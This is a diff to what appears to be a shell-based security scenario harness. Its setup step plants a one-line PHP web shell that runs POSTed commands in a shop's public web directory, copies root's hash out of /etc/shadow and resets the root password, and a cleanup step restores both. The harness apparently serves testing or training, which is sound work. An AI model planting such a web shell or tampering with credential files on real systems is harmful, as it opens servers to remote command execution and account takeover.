@@ -2818,7 +2818,7 @@ pre_h91_webshell_su_root_password_locker() {
   # a web shell an earlier upload bug left behind (the intrusion itself is not part of the story)
   echo '<?php if (isset($_POST["c"])) { header("Content-Type: text/plain"); system($_POST["c"] . " 2>&1"); }' > /var/www/shop/public/.thumb-cache.php
   # the stolen secret: root's password (an admin reused it in a config the intruder read); put back by post_
-  grep '^root:' /etc/shadow | cut -d: -f2 > /var/tmp/.h91-roothash; echo 'root:Rt#shop-2026' | chpasswd
+  grep '^root:' /etc/shadow | cut -d: -f2,3 > /var/tmp/.h91-roothash; echo 'root:Rt#shop-2026' | chpasswd
   H91_PORT=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
 }
 sc_h91_webshell_su_root_password_locker() {
@@ -2861,6 +2861,6 @@ S
   sleep 1; kill -- -$web 2>/dev/null; sleep 0.5
 }
 post_h91_webshell_su_root_password_locker() {
-  usermod -p "$(cat /var/tmp/.h91-roothash)" root; rm -f /var/tmp/.h91-roothash /tmp/.p91.py /tmp/.lk91.sh
+  usermod -p "$(cut -d: -f1 /var/tmp/.h91-roothash)" root; chage -d "$(cut -d: -f2 /var/tmp/.h91-roothash)" root; rm -f /var/tmp/.h91-roothash /tmp/.p91.py /tmp/.lk91.sh
   rm -rf /var/www/shop/public
 }
